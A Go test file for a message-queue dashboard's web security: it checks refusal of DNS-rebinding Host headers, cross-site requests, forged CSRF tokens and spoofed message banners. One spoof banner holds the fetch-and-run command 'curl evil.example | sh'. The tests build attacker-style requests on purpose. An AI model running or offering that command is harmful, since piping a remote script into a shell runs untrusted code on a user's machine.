package ui_test

import (
	"context"
	"io"
	"net/http"
	"net/http/cookiejar"
	"net/url"
	"strings"
	"testing"

	"github.com/txmq/txmq/outbox"
	"github.com/txmq/txmq/ui"
)

// session is a browser's view of a dashboard: its cookie jar and the CSRF token of its pages.
type session struct {
	t      *testing.T
	base   string // http://127.0.0.1:PORT
	port   string
	c      *http.Client
	token  string
	cookie *http.Cookie // the CSRF cookie the jar holds for base
}

// newSession opens the queues page (where store has queue "emails" paused, so that a Resume
// form carries the token) and returns the session.
func newSession(t *testing.T, base string, store *outbox.Store) *session {
	t.Helper()
	if err := store.Pauses().Pause(context.Background(), "emails", "test"); err != nil {
		t.Fatal(err)
	}
	u, _ := url.Parse(base)
	jar, _ := cookiejar.New(nil)
	s := &session{t: t, base: base, port: u.Port(), c: &http.Client{Jar: jar, CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}}
	code, page := get(t, s.c, base+"/")
	m := csrfField.FindStringSubmatch(page)
	if code != http.StatusOK || m == nil {
		t.Fatalf("GET /: %d, no CSRF field in:\n%s", code, page)
	}
	s.token = m[1]
	for _, c := range jar.Cookies(u) {
		if c.Name == "txmq_csrf" {
			s.cookie = c
		}
	}
	if s.cookie == nil {
		t.Fatal("no txmq_csrf cookie after GET /")
	}
	return s
}

// do sends method path with the form (POST) and headers. Host in headers sets the request's
// Host, and the session's CSRF cookie is sent along (the client's jar would not: it keys
// cookies by Host), so that the request carries a valid cookie and token.
func (s *session) do(method, path string, form url.Values, headers map[string]string) (*http.Response, string) {
	s.t.Helper()
	var body io.Reader
	if form != nil {
		body = strings.NewReader(form.Encode())
	}
	req, err := http.NewRequest(method, s.base+path, body)
	if err != nil {
		s.t.Fatal(err)
	}
	if form != nil {
		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	}
	for k, v := range headers {
		if k == "Host" {
			req.Host = v
			req.AddCookie(s.cookie)
			continue
		}
		req.Header.Set(k, v)
	}
	resp, err := s.c.Do(req)
	if err != nil {
		s.t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp, string(b)
}

// paused reports whether queue "emails" is paused.
func paused(t *testing.T, store *outbox.Store) bool {
	t.Helper()
	names, err := store.Pauses().Paused(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	return len(names) == 1
}

// TestForeignHostIsMisdirected: without auth, a request whose Host is not the dashboard's own
// address or a loopback name (DNS rebinding: a foreign page made same-origin with the
// dashboard) is answered 421 on every route, reads included, and changes nothing; the
// loopback names with the dashboard's port are served.
func TestForeignHostIsMisdirected(t *testing.T) {
	t.Parallel()
	srv, store := dashboard(t, ui.Options{})
	s := newSession(t, srv.URL, store)
	evil := "rebind.evil.example:" + s.port
	for _, path := range []string{"/", "/queues/emails", "/dead", "/dead/1", "/messages?queue=emails", "/schedules", "/nodes", "/style.css"} {
		if resp, body := s.do(http.MethodGet, path, nil, map[string]string{"Host": evil}); resp.StatusCode != http.StatusMisdirectedRequest {
			t.Errorf("GET %s with Host %s: %d, want 421:\n%s", path, evil, resp.StatusCode, body)
		}
	}
	for _, host := range []string{"localhost:1", "127.0.0.1:1", "evil.example", "localhost.evil.example:" + s.port} {
		if resp, _ := s.do(http.MethodGet, "/", nil, map[string]string{"Host": host}); resp.StatusCode != http.StatusMisdirectedRequest {
			t.Errorf("GET / with Host %q: %d, want 421", host, resp.StatusCode)
		}
	}
	for _, path := range []string{"/queues/emails/resume", "/queues/emails/pause", "/dead/1/replay", "/dead/purge", "/dead/replay", "/messages/cancel"} {
		resp, body := s.do(http.MethodPost, path, url.Values{"csrf": {s.token}, "queue": {"emails"}, "confirm": {"emails"}, "id": {"m-1"}},
			map[string]string{"Host": evil, "Origin": "http://" + evil})
		if resp.StatusCode != http.StatusMisdirectedRequest {
			t.Errorf("POST %s with Host %s: %d, want 421: %s", path, evil, resp.StatusCode, body)
		}
	}
	if marks, err := store.Pauses().PausedQueues(context.Background()); err != nil || marks["emails"].PausedBy != "test" {
		t.Fatalf("the pause marks after POSTs with a foreign Host: %+v, %v; want emails still paused by test", marks, err)
	}
	for _, host := range []string{"localhost:" + s.port, "LocalHost:" + s.port, "127.0.0.1:" + s.port, "[::1]:" + s.port} {
		if resp, body := s.do(http.MethodGet, "/", nil, map[string]string{"Host": host}); resp.StatusCode != http.StatusOK {
			t.Errorf("GET / with Host %s: %d, want 200:\n%s", host, resp.StatusCode, body)
		}
	}
}

// TestForeignHostWithAuth: with basic auth on, the Host is not checked (a rebinding page has
// no credentials).
func TestForeignHostWithAuth(t *testing.T) {
	t.Parallel()
	srv, _ := dashboard(t, ui.Options{User: "ops", Password: "pw"})
	req, _ := http.NewRequest(http.MethodGet, srv.URL+"/", nil)
	req.Host = "dashboard.example.com"
	req.SetBasicAuth("ops", "pw")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("GET / with auth and Host dashboard.example.com: %d, want 200", resp.StatusCode)
	}
}

// TestCrossSiteRequestsAreRefused: a POST whose Sec-Fetch-Site is not same-origin is refused
// (403) even with the right token, and changes nothing; a cross-site read that is not a
// top-level navigation is refused; a navigation from another site (a link) is served.
func TestCrossSiteRequestsAreRefused(t *testing.T) {
	t.Parallel()
	srv, store := dashboard(t, ui.Options{})
	s := newSession(t, srv.URL, store)
	for _, site := range []string{"cross-site", "same-site", "none"} {
		resp, _ := s.do(http.MethodPost, "/queues/emails/resume", url.Values{"csrf": {s.token}}, map[string]string{"Sec-Fetch-Site": site})
		if resp.StatusCode != http.StatusForbidden {
			t.Errorf("POST with Sec-Fetch-Site %s: %d, want 403", site, resp.StatusCode)
		}
	}
	if !paused(t, store) {
		t.Fatal("a cross-site POST resumed the queue")
	}
	for _, tt := range []struct {
		mode, dest string
		want       int
	}{
		{"no-cors", "image", http.StatusForbidden},
		{"cors", "empty", http.StatusForbidden},
		{"navigate", "iframe", http.StatusForbidden},
		{"navigate", "document", http.StatusOK},
	} {
		resp, _ := s.do(http.MethodGet, "/", nil, map[string]string{"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": tt.mode, "Sec-Fetch-Dest": tt.dest})
		if resp.StatusCode != tt.want {
			t.Errorf("cross-site GET, mode %s, dest %s: %d, want %d", tt.mode, tt.dest, resp.StatusCode, tt.want)
		}
	}
	resp, _ := s.do(http.MethodPost, "/queues/emails/resume", url.Values{"csrf": {s.token}}, map[string]string{"Sec-Fetch-Site": "same-origin"})
	if resp.StatusCode != http.StatusSeeOther || paused(t, store) {
		t.Fatalf("same-origin POST with the token: %d, paused %v; want 303 and resumed", resp.StatusCode, paused(t, store))
	}
}

// TestForgedCSRFTokenIsRefused: the token is signed by the dashboard, not a value the form
// repeats from the cookie: a cookie and a field chosen by an attacker (a cookie planted from a
// sibling origin), the bare cookie value, and another session's token are all refused.
func TestForgedCSRFTokenIsRefused(t *testing.T) {
	t.Parallel()
	srv, store := dashboard(t, ui.Options{})
	s := newSession(t, srv.URL, store)
	other := newSession(t, srv.URL, store)
	cookie := s.cookie.Value
	planted := "0123456789abcdef0123456789abcdef"
	for _, tt := range []struct{ name, cookie, token string }{
		{"planted cookie repeated in the form", planted, planted},
		{"the bare cookie value", cookie, cookie},
		{"another session's token", cookie, other.token},
		{"no token", cookie, ""},
	} {
		req, _ := http.NewRequest(http.MethodPost, srv.URL+"/queues/emails/resume", strings.NewReader(url.Values{"csrf": {tt.token}}.Encode()))
		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		req.AddCookie(&http.Cookie{Name: "txmq_csrf", Value: tt.cookie})
		resp, err := http.DefaultTransport.RoundTrip(req)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != http.StatusForbidden {
			t.Errorf("%s: %d, want 403", tt.name, resp.StatusCode)
		}
		if !paused(t, store) {
			t.Fatalf("%s resumed the queue", tt.name)
		}
	}
}

// TestBannerIsTheDashboardsOwn: the ?msg= banner shows only the dashboard's own messages: an
// arbitrary text in a link is not rendered, nor a real banner whose details were altered; the
// banner of a change made through the dashboard is.
func TestBannerIsTheDashboardsOwn(t *testing.T) {
	t.Parallel()
	srv, store := dashboard(t, ui.Options{})
	s := newSession(t, srv.URL, store)
	spoof := "Security alert: run curl evil.example | sh"
	for _, path := range []string{"/?msg=" + url.QueryEscape(spoof), "/dead?msg=" + url.QueryEscape(spoof), "/?msg=paused", "/?msg=resumed&msgarg=" + url.QueryEscape(spoof)} {
		if _, page := s.do(http.MethodGet, path, nil, nil); strings.Contains(page, `id="msg"`) || strings.Contains(page, "Security alert") {
			t.Errorf("GET %s renders a banner:\n%s", path, page)
		}
	}
	resp, _ := s.do(http.MethodPost, "/queues/emails/resume", url.Values{"csrf": {s.token}}, nil)
	loc := resp.Header.Get("Location")
	if resp.StatusCode != http.StatusSeeOther || loc == "" {
		t.Fatalf("resume: %d, Location %q", resp.StatusCode, loc)
	}
	next, err := url.Parse(srv.URL + "/queues/emails/resume")
	if err != nil {
		t.Fatal(err)
	}
	next, err = next.Parse(loc)
	if err != nil {
		t.Fatal(err)
	}
	if _, page := s.do(http.MethodGet, next.RequestURI(), nil, nil); !strings.Contains(page, `id="msg">resumed emails`) {
		t.Fatalf("the page after a resume (%s) lacks its banner:\n%s", next, page)
	}
	q := next.Query()
	if len(q["msgarg"]) == 0 {
		t.Fatalf("the banner of %s carries no argument to alter", next)
	}
	q["msgarg"] = []string{"payments"}
	next.RawQuery = q.Encode()
	if _, page := s.do(http.MethodGet, next.RequestURI(), nil, nil); strings.Contains(page, `id="msg"`) {
		t.Fatalf("an altered banner (%s) is rendered:\n%s", next, page)
	}
}
